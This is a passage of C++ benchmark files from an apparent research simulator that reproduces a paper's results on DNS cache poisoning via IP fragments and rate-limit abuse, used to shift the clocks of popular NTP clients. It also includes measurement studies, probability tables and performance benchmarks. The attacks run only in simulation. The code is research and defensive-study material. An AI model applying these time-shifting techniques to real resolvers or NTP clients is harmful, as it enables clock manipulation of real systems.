  poison_via_fragments(world);

  sim::Time attack_start = world.loop().now();
  attack::RunTimeConfig rc;
  rc.victim = kVictim;
  rc.discovery = label == "ntpd-p2"
                     ? attack::RunTimeConfig::Discovery::kRefidLeak
                     : attack::RunTimeConfig::Discovery::kKnownList;
  rc.known_servers = world.pool_server_addrs();
  rc.deadline = Duration::hours(6);
  attack::RunTimeAttack attack(world.attacker(), rc);
  std::optional<attack::AttackOutcome> outcome;
  attack.run([&] { return host.clock.offset() < -400.0; },
             [&](const attack::AttackOutcome& o) { outcome = o; });

  if (label == "openntpd") {
    // openntpd never re-queries DNS: the attack starves it until the
    // operator/watchdog restarts the daemon (we model a 60-minute stall
    // watchdog), whose boot-time lookup then hits the poisoned cache.
    auto* ontpd = static_cast<ntp::OpenntpdClient*>(client.get());
    world.loop().schedule_after(Duration::minutes(60),
                                [ontpd] { ontpd->restart(); });
  }

  world.run_for(Duration::hours(6) + Duration::minutes(5));
  if (!outcome || !outcome->success) return std::nullopt;
  return (outcome->at - attack_start).to_seconds();
}

}  // namespace

int main() {
  bench::header("Table II - Run-time attack duration against clients");
  struct Row {
    const char* label;
    const char* display;
    const char* paper;
  };
  const Row rows[] = {
      {"ntpd-p2", "NTPd     P2 (refid discovery)", "47 minutes"},
      {"ntpd-p1", "NTPd     P1 (known server list)", "17 minutes"},
      {"openntpd", "openntpd P1 (restart-assisted)", "84 minutes"},
      {"chrony", "chrony   P1 (known server list)", "57 minutes"},
  };
  double p1_duration = 0, p2_duration = 0;
  for (const Row& r : rows) {
    auto duration = run_scenario(r.label);
    bench::row(r.display, r.paper,
               duration ? bench::minutes(*duration) : "FAILED");
    if (std::string(r.label) == "ntpd-p1" && duration) {
      p1_duration = *duration;
    }
    if (std::string(r.label) == "ntpd-p2" && duration) {
      p2_duration = *duration;
    }
  }
  std::printf(
      "\n  Shape check: P2 (one-upstream-at-a-time discovery) must take\n"
      "  longer than P1 (flood everything): P2/P1 = %.1fx (paper: 2.8x)\n",
      p1_duration > 0 ? p2_duration / p1_duration : 0.0);
  return 0;
}
