// Table II: run-time attack duration against different clients, executed
// as a campaign — N independent seeded trials per client across a worker
// pool, mean durations reported next to the paper's numbers.
//
// Absolute minutes depend on poll cadences (our clients poll at fixed
// 64 s / chrony backs off to 192 s); the paper's ordering — NTPd(P1)
// fastest, then NTPd(P2), chrony, openntpd (which must wait for a restart)
// — is the reproduced shape.
//
// Usage: bench_table2_attack_duration [--trials N] [--threads T] [--seed S]
//                                     [--journal DIR] [--resume]
//                                     [--out PATH] [--json]
//   stdout stays the human paper-comparison; --out PATH writes the
//   campaign report to a file (--json selects JSON format), while --json
//   alone appends the JSON report as the final stdout line (pipe through
//   `tail -1` for machine consumption, like the CI smokes do).
#include <cstdio>
#include <cstring>

#include "bench_util.h"
#include "campaign/cli.h"
#include "campaign/dist/coordinator.h"
#include "campaign/dist/worker.h"
#include "campaign/runner.h"

using namespace dnstime;

int main(int argc, char** argv) {
  campaign::CliOptions defaults;
  defaults.config.trials = 1;  // the paper's lab ran each client once
  campaign::CliOptions opts = campaign::parse_cli(argc, argv, defaults);
  if (!opts.ok) return 2;

  auto scenarios = campaign::ScenarioRegistry::builtin().select("table2/");
  if (opts.dist.worker_mode) {
    return campaign::dist::run_worker(opts.config, scenarios, opts.dist);
  }

  bench::header("Table II - Run-time attack duration against clients");
  campaign::CampaignReport report;
  try {
    if (opts.dist.workers >= 2) {
      report = campaign::dist::run_coordinator(opts.config, scenarios,
                                               opts.dist);
    } else {
      report = campaign::CampaignRunner(opts.config).run(scenarios);
    }
  } catch (const std::exception& e) {
    std::fprintf(stderr, "campaign failed: %s\n", e.what());
    return 1;
  }

  struct Row {
    const char* scenario;
    const char* display;
    const char* paper;
  };
  const Row rows[] = {
      {"table2/ntpd-p2", "NTPd     P2 (refid discovery)", "47 minutes"},
      {"table2/ntpd-p1", "NTPd     P1 (known server list)", "17 minutes"},
      {"table2/openntpd", "openntpd P1 (restart-assisted)", "84 minutes"},
      {"table2/chrony", "chrony   P1 (known server list)", "57 minutes"},
  };
  double p1_duration = 0, p2_duration = 0;
  for (const Row& r : rows) {
    const campaign::ScenarioAggregate* agg = nullptr;
    for (const auto& s : report.scenarios) {
      if (s.name == r.scenario) agg = &s;
    }
    if (agg == nullptr || agg->successes == 0) {
      bench::row(r.display, r.paper, "FAILED");
      continue;
    }
    bench::row(r.display, r.paper, bench::minutes(agg->duration_mean_s));
    if (std::strcmp(r.scenario, "table2/ntpd-p1") == 0) {
      p1_duration = agg->duration_mean_s;
    } else if (std::strcmp(r.scenario, "table2/ntpd-p2") == 0) {
      p2_duration = agg->duration_mean_s;
    }
  }
  std::printf(
      "\n  Shape check: P2 (one-upstream-at-a-time discovery) must take\n"
      "  longer than P1 (flood everything): P2/P1 = %.1fx (paper: 2.8x)\n",
      p1_duration > 0 ? p2_duration / p1_duration : 0.0);
  std::printf(
      "\n  campaign: seed=%llu, %u trial(s)/scenario; success rates and\n"
      "  duration quantiles:\n\n%s",
      static_cast<unsigned long long>(report.seed),
      report.trials_per_scenario, report.to_table().c_str());
  if ((!opts.out.empty() || opts.json) &&
      !campaign::write_report(opts, report)) {
    return 1;
  }
  return 0;
}
