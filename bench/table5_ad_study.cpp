// Table V: the ad-network client study — fragment acceptance by region
// and device, run as real resolutions through per-client resolver stacks
// against forced-fragmenting study nameservers.
#include <cstdio>

#include "bench_util.h"
#include "measure/ad_study.h"

int main() {
  using namespace dnstime;
  using measure::Region;
  bench::header("Table V - Results of client resolver study using ads");

  measure::AdStudyConfig cfg;
  auto result = measure::run_ad_study(cfg);

  struct PaperRow {
    const char* label;
    double tiny;
    double any;
    int total;
  };
  const PaperRow paper[] = {
      {"Asia", 0.5822, 0.9034, 3169},
      {"Africa", 0.7327, 0.9571, 303},
      {"Europe", 0.7266, 0.9187, 1390},
      {"Northern America", 0.5843, 0.7593, 2314},
      {"Latin America", 0.6826, 0.9057, 838},
  };
  std::printf("  %-20s | %-21s | %-21s | %s\n", "group",
              "tiny(68B) paper/ours", "any-size paper/ours", "n (ours)");
  for (int r = 0; r < 5; ++r) {
    const auto& cell = result.by_region[r];
    std::printf("  %-20s | %7.2f%% / %7.2f%% | %7.2f%% / %7.2f%% | %zu\n",
                paper[r].label, paper[r].tiny * 100, cell.tiny_fraction() * 100,
                paper[r].any * 100, cell.any_fraction() * 100, cell.total);
  }
  auto print_total = [](const char* label, double paper_tiny, double paper_any,
                        const measure::AdStudyCell& cell) {
    std::printf("  %-20s | %7.2f%% / %7.2f%% | %7.2f%% / %7.2f%% | %zu\n",
                label, paper_tiny * 100, cell.tiny_fraction() * 100,
                paper_any * 100, cell.any_fraction() * 100, cell.total);
  };
  print_total("ALL", 0.64, 0.9099, result.all);
  print_total("Without Google", 0.6802, 0.9009, result.without_google);
  print_total("PC", 0.608, 0.894, result.pc);
  print_total("Mobile,Tablet", 0.6683, 0.9237, result.mobile);

  std::printf("\n  Fragment acceptance by size (valid clients = %zu):\n",
              result.clients_valid);
  std::printf("    small(296):  %5.1f%%   medium(580): %5.1f%% (paper 77%%)\n",
              100.0 * result.accepts_small / result.clients_valid,
              100.0 * result.accepts_medium / result.clients_valid);
  std::printf("    big(1280):   %5.1f%% (paper 86%%)\n",
              100.0 * result.accepts_big / result.clients_valid);

  std::printf("\n  DNSSEC validation by region (paper: 19.14%%..28.94%%):\n");
  const char* names[] = {"Asia", "Africa", "Europe", "N.America",
                         "LatAm"};
  for (int r = 0; r < 5; ++r) {
    std::printf("    %-12s %5.2f%%\n", names[r],
                result.dnssec_validation_fraction(r) * 100);
  }
  return 0;
}
