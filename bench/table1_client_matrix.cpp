// Table I: attack scenarios for popular NTP clients.
//
// For every client model, run (a) a boot-time scenario — resolver poisoned
// before the client starts — and (b) a run-time scenario — client
// synchronised honestly, then delegation poisoned and associations
// removed via rate-limit abuse. A scenario "applies" if the victim clock
// ends up at the attacker's -500 s shift.
#include <cstdio>

#include "attack/chronos_attack.h"
#include "attack/ratelimit_abuser.h"
#include "bench_util.h"
#include "ntp/clients/chrony.h"
#include "ntp/clients/ntpclient.h"
#include "ntp/clients/ntpd.h"
#include "ntp/clients/ntpdate.h"
#include "ntp/clients/openntpd.h"
#include "ntp/clients/sntp_timesyncd.h"
#include "scenario/world.h"

namespace {

using namespace dnstime;
using scenario::World;
using scenario::WorldConfig;
using sim::Duration;

const Ipv4Addr kVictim{10, 77, 0, 1};

std::unique_ptr<ntp::NtpClientBase> make_client(const std::string& kind,
                                                World& world,
                                                scenario::World::Host& host) {
  ntp::ClientBaseConfig cfg;
  cfg.resolver = world.resolver_addr();
  if (kind == "ntpd")
    return std::make_unique<ntp::NtpdClient>(*host.stack, host.clock, cfg);
  if (kind == "openntpd")
    return std::make_unique<ntp::OpenntpdClient>(*host.stack, host.clock, cfg);
  if (kind == "chrony")
    return std::make_unique<ntp::ChronyClient>(*host.stack, host.clock, cfg);
  if (kind == "ntpdate")
    return std::make_unique<ntp::NtpdateClient>(*host.stack, host.clock, cfg);
  if (kind == "android")
    return std::make_unique<ntp::AndroidSntpClient>(*host.stack, host.clock,
                                                    cfg);
  if (kind == "ntpclient")
    return std::make_unique<ntp::NtpclientClient>(*host.stack, host.clock,
                                                  cfg);
  return std::make_unique<ntp::TimesyncdClient>(*host.stack, host.clock, cfg);
}

void poison(World& world) {
  attack::ChronosAttack inject(
      world.attacker(),
      attack::ChronosAttackConfig{.resolver_addr = world.resolver_addr(),
                                  .malicious_ntp = world.attacker_ntp_addrs()});
  inject.inject_whitebox(world.resolver());
}

bool boot_time_applies(const std::string& kind) {
  World world;
  poison(world);
  auto& host = world.add_host(kVictim);
  auto client = make_client(kind, world, host);
  client->start();
  world.run_for(Duration::minutes(30));
  return host.clock.offset() < -400.0;
}

bool run_time_applies(const std::string& kind) {
  World world;
  auto& host = world.add_host(kVictim);
  auto client = make_client(kind, world, host);
  client->start();
  world.run_for(Duration::minutes(12));
  if (host.clock.offset() < -400.0) return false;  // must start honest
  poison(world);
  attack::RateLimitAbuser abuser(world.attacker(), kVictim);
  abuser.disrupt_all(world.pool_server_addrs());
  world.run_for(Duration::hours(3));
  return host.clock.offset() < -400.0;
}

}  // namespace

int main() {
  bench::header(
      "Table I - Attack scenarios for popular NTP clients\n"
      "(pool.ntp.org usage shares from Rytilahti et al. [30], as cited)");

  struct Row {
    const char* client;
    const char* usage;
    const char* paper_boot;
    const char* paper_run;
  };
  const Row rows[] = {
      {"NTPd", "26.4%", "yes", "yes"},
      {"openntpd", "4.4%", "yes", "no"},
      {"chrony", "4.8%", "yes", "yes"},
      {"ntpdate", "20.0%", "yes", "n/a (one-shot)"},
      {"Android", "14.0%", "yes", "yes"},
      {"ntpclient", "1.2%", "yes", "no"},
      {"systemd", "(not listed)", "yes", "yes"},
  };
  const char* kinds[] = {"ntpd",    "openntpd",  "chrony", "ntpdate",
                         "android", "ntpclient", "systemd-timesyncd"};

  std::printf("  %-12s %-12s | %-22s | %-22s\n", "client", "pool usage",
              "boot-time (paper/meas)", "run-time (paper/meas)");
  for (int i = 0; i < 7; ++i) {
    bool boot = boot_time_applies(kinds[i]);
    bool run = i == 3 ? false : run_time_applies(kinds[i]);  // ntpdate: n/a
    std::printf("  %-12s %-12s | %-10s / %-9s | %-10s / %-9s\n",
                rows[i].client, rows[i].usage, rows[i].paper_boot,
                boot ? "yes" : "no", rows[i].paper_run,
                i == 3 ? "n/a" : (run ? "yes" : "no"));
  }
  std::printf(
      "\n  Expectation: every client falls at boot time; only clients that\n"
      "  re-query DNS at run time (ntpd, chrony, Android, systemd) fall at\n"
      "  run time. openntpd/ntpclient stall instead of re-querying.\n");
  return 0;
}
