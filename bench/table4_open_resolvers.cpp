// Table IV: pool.ntp.org caching state in tested open resolvers, measured
// with the RD=0 probing methodology (verification protocol included)
// against a synthetic open-resolver population calibrated to the paper's
// marginals.
#include <cstdio>

#include "bench_util.h"
#include "measure/cache_probe.h"

int main() {
  using namespace dnstime;
  bench::header("Table IV - pool.ntp.org caching state in open resolvers");

  measure::CacheProbeConfig cfg;
  cfg.resolvers = 4000;  // scaled from the paper's 1.58M responders
  auto result = measure::probe_open_resolvers(cfg);

  const double paper[] = {0.5828, 0.6941, 0.6392, 0.6128, 0.6155, 0.5858};
  std::printf("  probed %zu resolvers, verified RD handling on %zu (%.1f%%)\n",
              result.probed, result.verified,
              100.0 * result.verified / result.probed);
  std::printf("  (paper: probed 1,583,045; verified 646,212)\n\n");
  std::printf("  %-24s | %9s | %9s | %8s %8s\n", "query", "paper", "ours",
              "cached", "not");
  for (std::size_t i = 0; i < result.rows.size(); ++i) {
    const auto& row = result.rows[i];
    std::printf("  %-24s | %8.2f%% | %8.2f%% | %8zu %8zu\n",
                row.record.c_str(), paper[i] * 100,
                row.cached_fraction() * 100, row.cached, row.not_cached);
  }
  std::printf(
      "\n  Shape: the bare pool A record is cached most often; the NS and\n"
      "  numbered subzones trail it; a majority of verified resolvers\n"
      "  serve NTP clients.\n");
  return 0;
}
