// Table III: probability that an NTP client is in a vulnerable state,
// depending on its number of associations m. Closed form (the paper's
// formulas) cross-validated by a Monte-Carlo campaign over the measured
// rate-limiting fraction p = 38%: each table row is one kCustom scenario
// whose trials sample independent batches, fanned out by CampaignRunner.
//
// Usage: bench_table3_probabilities [--trials N] [--threads T] [--seed S]
//                                   [--journal DIR] [--resume]
//                                   [--out PATH] [--json]
//   stdout stays the human paper-comparison; --out PATH writes the
//   campaign report to a file (--json selects JSON format), while --json
//   alone appends the JSON report as the final stdout line (pipe through
//   `tail -1` for machine consumption, like the CI smokes do).
#include <cstdio>

#include "analysis/probability.h"
#include "bench_util.h"
#include "campaign/cli.h"
#include "campaign/dist/coordinator.h"
#include "campaign/dist/worker.h"
#include "campaign/runner.h"

namespace {

using namespace dnstime;

constexpr int kSamplesPerTrial = 25000;

/// One scenario per Table III row: every trial estimates P2(m, n) from an
/// independent batch of kSamplesPerTrial Monte Carlo samples; the
/// campaign-level metric_mean is the pooled estimate.
campaign::ScenarioSpec row_scenario(const analysis::TableIIIRow& row) {
  campaign::ScenarioSpec spec;
  spec.name = "table3/m" + std::to_string(row.m);
  spec.description = "Monte Carlo P2 estimate for m=" + std::to_string(row.m);
  spec.attack = campaign::AttackKind::kCustom;
  const int m = row.m, n = row.n;
  spec.trial_fn = [m, n](const campaign::ScenarioSpec&,
                         const campaign::TrialContext& ctx) {
    Rng rng{ctx.seed};
    campaign::TrialResult result;
    result.metric = analysis::monte_carlo_p2(
        m, n, analysis::kMeasuredRateLimitFraction, kSamplesPerTrial, rng);
    result.success = true;
    return result;
  };
  return spec;
}

}  // namespace

int main(int argc, char** argv) {
  campaign::CliOptions defaults;
  defaults.config.seed = 2024;
  defaults.config.trials = 8;  // 8 x 25k samples per row
  campaign::CliOptions opts = campaign::parse_cli(argc, argv, defaults);
  if (!opts.ok) return 2;

  // The scenario list is rebuilt identically in every process (pure
  // function of table_iii()), so leased workers journal the same campaign.
  auto rows = analysis::table_iii();
  std::vector<campaign::ScenarioSpec> scenarios;
  scenarios.reserve(rows.size());
  for (const auto& row : rows) scenarios.push_back(row_scenario(row));
  if (opts.dist.worker_mode) {
    return campaign::dist::run_worker(opts.config, scenarios, opts.dist);
  }

  bench::header(
      "Table III - P(client vulnerable) by association count m, p_rate=38%");

  // The paper's printed rows for comparison.
  const double paper_p1[] = {0.380, 0.144, 0.144, 0.055, 0.055,
                             0.021, 0.008, 0.003, 0.001};
  const double paper_p2[] = {0.380, 0.144, 0.324, 0.157, 0.284,
                             0.153, 0.078, 0.039, 0.018};

  campaign::CampaignReport report;
  try {
    if (opts.dist.workers >= 2) {
      report = campaign::dist::run_coordinator(opts.config, scenarios,
                                               opts.dist);
    } else {
      report = campaign::CampaignRunner(opts.config).run(scenarios);
    }
  } catch (const std::exception& e) {
    std::fprintf(stderr, "campaign failed: %s\n", e.what());
    return 1;
  }

  std::printf("  %2s %2s | %8s %8s | %8s %8s | %10s\n", "m", "n", "P1 paper",
              "P1 ours", "P2 paper", "P2 ours", "P2 MonteCarlo");
  for (std::size_t i = 0; i < rows.size(); ++i) {
    const auto& row = rows[i];
    double mc = report.scenarios[i].metric_mean;
    std::printf("  %2d %2d | %7.1f%% %7.1f%% | %7.1f%% %7.1f%% | %9.1f%%\n",
                row.m, row.n, paper_p1[row.m - 1] * 100, row.p1 * 100,
                paper_p2[row.m - 1] * 100, row.p2 * 100, mc * 100);
  }
  std::printf(
      "\n  Shape checks: P2 >= P1 everywhere; both shrink as m grows;\n"
      "  choosing which servers to remove (P2) helps most at odd m.\n");
  if ((!opts.out.empty() || opts.json) &&
      !campaign::write_report(opts, report)) {
    return 1;
  }
  return 0;
}
