// Table III: probability that an NTP client is in a vulnerable state,
// depending on its number of associations m. Closed form (the paper's
// formulas) cross-validated by Monte-Carlo simulation over the measured
// rate-limiting fraction p = 38%.
#include <cstdio>

#include "analysis/probability.h"
#include "bench_util.h"

int main() {
  using namespace dnstime;
  bench::header(
      "Table III - P(client vulnerable) by association count m, p_rate=38%");

  // The paper's printed rows for comparison.
  const double paper_p1[] = {0.380, 0.144, 0.144, 0.055, 0.055,
                             0.021, 0.008, 0.003, 0.001};
  const double paper_p2[] = {0.380, 0.144, 0.324, 0.157, 0.284,
                             0.153, 0.078, 0.039, 0.018};

  Rng rng{2024};
  std::printf("  %2s %2s | %8s %8s | %8s %8s | %10s\n", "m", "n", "P1 paper",
              "P1 ours", "P2 paper", "P2 ours", "P2 MonteCarlo");
  auto rows = analysis::table_iii();
  for (const auto& row : rows) {
    double mc = analysis::monte_carlo_p2(
        row.m, row.n, analysis::kMeasuredRateLimitFraction, 200000, rng);
    std::printf("  %2d %2d | %7.1f%% %7.1f%% | %7.1f%% %7.1f%% | %9.1f%%\n",
                row.m, row.n, paper_p1[row.m - 1] * 100, row.p1 * 100,
                paper_p2[row.m - 1] * 100, row.p2 * 100, mc * 100);
  }
  std::printf(
      "\n  Shape checks: P2 >= P1 everywhere; both shrink as m grows;\n"
      "  choosing which servers to remove (P2) helps most at odd m.\n");
  return 0;
}
