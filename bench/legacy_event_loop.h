// Frozen copy of the pre-refactor sim::EventLoop (std::priority_queue over
// std::function events, one shared_ptr<bool> cancellation token per event,
// copy-out pop). Kept ONLY as the baseline side of bench_eventloop, so the
// refactored loop's speedup is measured against the real prior
// implementation on every CI run rather than against a number in a commit
// message. Do not use outside the bench.
#pragma once

#include <functional>
#include <memory>
#include <queue>
#include <vector>

#include "sim/time.h"

namespace dnstime::bench_legacy {

using sim::Duration;
using sim::Time;

using EventFn = std::function<void()>;

class LegacyEventLoop;

class LegacyEventHandle {
 public:
  LegacyEventHandle() = default;

  void cancel() {
    if (cancelled_) *cancelled_ = true;
  }
  [[nodiscard]] bool valid() const { return cancelled_ != nullptr; }

 private:
  friend class LegacyEventLoop;
  explicit LegacyEventHandle(std::shared_ptr<bool> c)
      : cancelled_(std::move(c)) {}
  std::shared_ptr<bool> cancelled_;
};

class LegacyEventLoop {
 public:
  [[nodiscard]] Time now() const { return now_; }

  LegacyEventHandle schedule_at(Time at, EventFn fn) {
    if (at < now_) at = now_;
    auto cancelled = std::make_shared<bool>(false);
    queue_.push(Event{at, seq_++, std::move(fn), cancelled});
    return LegacyEventHandle{cancelled};
  }

  LegacyEventHandle schedule_after(Duration d, EventFn fn) {
    return schedule_at(now_ + d, std::move(fn));
  }

  void run_until(Time until) {
    while (!queue_.empty()) {
      const Event& top = queue_.top();
      if (top.at > until) break;
      Event ev = top;
      queue_.pop();
      now_ = ev.at;
      if (!*ev.cancelled) ev.fn();
    }
    if (now_ < until) now_ = until;
  }

  void run_for(Duration d) { run_until(now_ + d); }

  void run_all() {
    while (!queue_.empty()) {
      Event ev = queue_.top();
      queue_.pop();
      now_ = ev.at;
      if (!*ev.cancelled) ev.fn();
    }
  }

  [[nodiscard]] std::size_t pending() const { return queue_.size(); }

 private:
  struct Event {
    Time at;
    u64 seq;
    EventFn fn;
    std::shared_ptr<bool> cancelled;
  };
  struct Later {
    bool operator()(const Event& a, const Event& b) const {
      if (a.at != b.at) return a.at > b.at;
      return a.seq > b.seq;
    }
  };

  Time now_;
  u64 seq_ = 0;
  std::priority_queue<Event, std::vector<Event>, Later> queue_;
};

}  // namespace dnstime::bench_legacy
