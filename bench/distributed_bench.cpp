// Distributed campaign scale-out benchmark: the same CPU-bound campaign
// executed at 1, 2, 4 and 8 worker processes through the dist coordinator
// (campaign/dist/coordinator.h), min-of-N wall-clock per configuration.
//
// The workload is 4 synthetic scenarios of deterministic RNG-mixing
// trials — pure functions of the trial seed, rebuilt identically in every
// process, so any worker may execute any trial (the property the lease
// protocol relies on). The 1-process configuration is the journaled
// single-thread CampaignRunner, i.e. exactly the baseline the byte-
// identity contract compares against; every multi-process report is
// asserted equal to it before its timing is accepted, so a run that broke
// determinism can never post a throughput number.
//
// Results go to stdout and BENCH_distributed.json (CI uploads the JSON).
// Speedup is wall-clock relative to the 1-process run; on a single
// hardware core the expected curve is flat (~1.0x) and the bench is then
// measuring coordination overhead, which is the honest number to track
// there.
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <string>
#include <vector>

#include "bench_util.h"
#include "campaign/cli.h"
#include "campaign/dist/coordinator.h"
#include "campaign/dist/worker.h"
#include "campaign/runner.h"
#include "common/rng.h"

namespace dnstime::bench {
namespace {

/// Per-trial CPU work: enough mixing that a trial costs milliseconds (so
/// process spawn/lease overhead amortizes the way a real campaign's does)
/// but small enough that the whole 4-point sweep stays under a minute.
constexpr u64 kWorkIters = 400'000;
constexpr u32 kScenarios = 4;

std::vector<campaign::ScenarioSpec> build_scenarios() {
  std::vector<campaign::ScenarioSpec> scenarios;
  for (u32 s = 0; s < kScenarios; ++s) {
    campaign::ScenarioSpec spec;
    spec.name = "distbench/s" + std::to_string(s);
    spec.description = "deterministic RNG-mixing CPU load";
    spec.attack = campaign::AttackKind::kCustom;
    spec.trial_fn = [](const campaign::ScenarioSpec&,
                       const campaign::TrialContext& ctx) {
      Rng rng{ctx.seed};
      double acc = 0.0;
      for (u64 i = 0; i < kWorkIters; ++i) acc += rng.uniform01();
      campaign::TrialResult r;
      r.metric = acc / static_cast<double>(kWorkIters);
      r.success = r.metric > 0.49 && r.metric < 0.51;
      return r;
    };
    scenarios.push_back(std::move(spec));
  }
  return scenarios;
}

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                       start)
      .count();
}

}  // namespace
}  // namespace dnstime::bench

int main(int argc, char** argv) {
  using namespace dnstime;
  using namespace dnstime::bench;

  // Re-exec'd worker mode: the coordinator appended --dist-worker plus the
  // pipe fds to our respawn_args; parse_cli understands that whole line.
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--dist-worker") == 0) {
      campaign::CliOptions opts =
          campaign::parse_cli(argc, argv, campaign::CliOptions{});
      if (!opts.ok) return campaign::dist::kWorkerBadFlags;
      return campaign::dist::run_worker(opts.config, build_scenarios(),
                                        opts.dist);
    }
  }

  u32 trials = 50;
  u64 seed = 777;
  int repeat = 3;
  std::string out_path = "BENCH_distributed.json";
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--trials") == 0 && i + 1 < argc) {
      trials = static_cast<u32>(std::strtoul(argv[++i], nullptr, 10));
    } else if (std::strcmp(argv[i], "--seed") == 0 && i + 1 < argc) {
      seed = std::strtoull(argv[++i], nullptr, 10);
    } else if (std::strcmp(argv[i], "--repeat") == 0 && i + 1 < argc) {
      repeat = std::atoi(argv[++i]);
      if (repeat < 1) repeat = 1;
    } else if (std::strcmp(argv[i], "--out") == 0 && i + 1 < argc) {
      out_path = argv[++i];
    } else {
      std::fprintf(stderr,
                   "usage: %s [--trials N] [--seed S] [--repeat N] "
                   "[--out FILE]\n",
                   argv[0]);
      return 2;
    }
  }

  header("distributed campaign scale-out: worker processes vs wall clock");

  const auto scenarios = build_scenarios();
  const std::string journal_dir =
      (std::filesystem::temp_directory_path() / "dnstime_bench_dist")
          .string();

  campaign::CampaignConfig config;
  config.seed = seed;
  config.trials = trials;
  config.threads = 1;
  config.journal_dir = journal_dir;

  const u64 total = u64{kScenarios} * trials;
  const u32 procs[] = {1, 2, 4, 8};
  struct ConfigResult {
    u32 procs = 0;
    double best_s = 0.0;
  };
  std::vector<ConfigResult> results;
  std::string baseline_json;

  for (const u32 p : procs) {
    campaign::dist::DistOptions dist;
    dist.workers = p;
    dist.respawn_args = {argv[0],     "--trials",
                         std::to_string(trials), "--seed",
                         std::to_string(seed),   "--journal",
                         journal_dir};
    double best = 0.0;
    for (int r = 0; r < repeat; ++r) {
      std::filesystem::remove_all(journal_dir);
      const auto start = std::chrono::steady_clock::now();
      campaign::CampaignReport report;
      try {
        report = (p == 1)
                     ? campaign::CampaignRunner(config).run(scenarios)
                     : campaign::dist::run_coordinator(config, scenarios,
                                                       dist);
      } catch (const std::exception& e) {
        std::fprintf(stderr, "%u-process run failed: %s\n", p, e.what());
        return 1;
      }
      const double s = seconds_since(start);
      const std::string json = report.to_json(/*include_trials=*/false);
      if (baseline_json.empty()) {
        baseline_json = json;
      } else if (json != baseline_json) {
        // A speedup from a wrong answer is not a speedup.
        std::fprintf(stderr,
                     "%u-process report differs from the 1-process "
                     "baseline - determinism broken, refusing to report\n",
                     p);
        return 1;
      }
      if (r == 0 || s < best) best = s;
    }
    results.push_back({p, best});
    std::printf("  %u process(es): %7.3f s  (%.0f trials/s)\n", p, best,
                static_cast<double>(total) / best);
  }
  std::filesystem::remove_all(journal_dir);

  const double base_s = results[0].best_s;
  std::printf("\n  %-10s %10s %14s %9s\n", "procs", "best s", "trials/s",
              "speedup");
  for (const ConfigResult& r : results) {
    std::printf("  %-10u %10.3f %14.0f %8.2fx\n", r.procs, r.best_s,
                static_cast<double>(total) / r.best_s, base_s / r.best_s);
  }

  std::FILE* f = std::fopen(out_path.c_str(), "w");
  if (!f) {
    std::fprintf(stderr, "cannot write %s\n", out_path.c_str());
    return 1;
  }
  std::fprintf(f,
               "{\"bench\":\"distributed\",\"scenarios\":%u,"
               "\"trials_per_scenario\":%u,\"total_trials\":%llu,"
               "\"work_iters_per_trial\":%llu,\"configs\":[",
               kScenarios, trials, static_cast<unsigned long long>(total),
               static_cast<unsigned long long>(kWorkIters));
  for (std::size_t i = 0; i < results.size(); ++i) {
    const ConfigResult& r = results[i];
    std::fprintf(f,
                 "%s{\"procs\":%u,\"best_s\":%.4f,\"trials_per_sec\":%.1f,"
                 "\"speedup\":%.3f}",
                 i ? "," : "", r.procs, r.best_s,
                 static_cast<double>(total) / r.best_s, base_s / r.best_s);
  }
  std::fprintf(f, "]}\n");
  std::fclose(f);
  std::printf("\n  wrote %s\n", out_path.c_str());
  return 0;
}
