// Micro-benchmarks (google-benchmark) of the attack-critical primitives:
// checksum arithmetic, wire codecs, fragment reassembly, fragment
// crafting and IPID-window construction. These bound the attacker-side
// and victim-side per-packet costs.
#include <benchmark/benchmark.h>

#include "attack/checksum_fixer.h"
#include "attack/fragment_crafter.h"
#include "dns/pool_zone.h"
#include "net/checksum.h"
#include "net/fragmentation.h"
#include "net/reassembly.h"
#include "net/udp.h"
#include "ntp/packet.h"
#include "ntp/timestamps.h"

namespace {

using namespace dnstime;

Bytes random_bytes(std::size_t n, u64 seed) {
  Rng rng{seed};
  Bytes out(n);
  for (auto& b : out) b = static_cast<u8>(rng.uniform(0, 255));
  return out;
}

void BM_OnesComplementSum(benchmark::State& state) {
  Bytes data = random_bytes(static_cast<std::size_t>(state.range(0)), 1);
  for (auto _ : state) {
    benchmark::DoNotOptimize(net::ones_complement_sum(data));
  }
  state.SetBytesProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_OnesComplementSum)->Arg(64)->Arg(512)->Arg(1500);

void BM_OnesComplementSumScalar(benchmark::State& state) {
  // The pre-refactor byte-pair loop, kept as the oracle; compare against
  // BM_OnesComplementSum (8 bytes per iteration) at the same sizes.
  Bytes data = random_bytes(static_cast<std::size_t>(state.range(0)), 1);
  for (auto _ : state) {
    benchmark::DoNotOptimize(net::ones_complement_sum_scalar(data));
  }
  state.SetBytesProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_OnesComplementSumScalar)->Arg(64)->Arg(512)->Arg(1500);

void BM_ChecksumCompensation(benchmark::State& state) {
  Bytes orig = random_bytes(64, 2);
  for (auto _ : state) {
    Bytes mutated = orig;
    mutated[10] = 0x66;
    mutated[11] = 0x66;
    benchmark::DoNotOptimize(
        attack::fix_fragment_sum(orig, mutated, 40));
  }
}
BENCHMARK(BM_ChecksumCompensation);

void BM_Ipv4EncodeDecode(benchmark::State& state) {
  net::Ipv4Packet pkt;
  pkt.src = Ipv4Addr{10, 0, 0, 1};
  pkt.dst = Ipv4Addr{10, 0, 0, 2};
  pkt.payload = random_bytes(512, 3);
  for (auto _ : state) {
    Bytes wire = net::encode(pkt);
    benchmark::DoNotOptimize(net::decode_ipv4(wire));
  }
}
BENCHMARK(BM_Ipv4EncodeDecode);

void BM_UdpChecksumVerify(benchmark::State& state) {
  Ipv4Addr src{10, 0, 0, 1}, dst{10, 0, 0, 2};
  net::UdpDatagram d{.src_port = 53, .dst_port = 3333,
                     .payload = random_bytes(512, 4)};
  Bytes wire = net::encode_udp(d, src, dst);
  for (auto _ : state) {
    benchmark::DoNotOptimize(net::decode_udp(wire, src, dst));
  }
}
BENCHMARK(BM_UdpChecksumVerify);

dns::DnsMessage sample_pool_response() {
  dns::PoolZone::Config cfg;
  cfg.pad_txt_bytes = 80;
  cfg.nameservers = {
      {dns::DnsName::from_string("ns1.ntp.org"), Ipv4Addr{198, 51, 100, 53}},
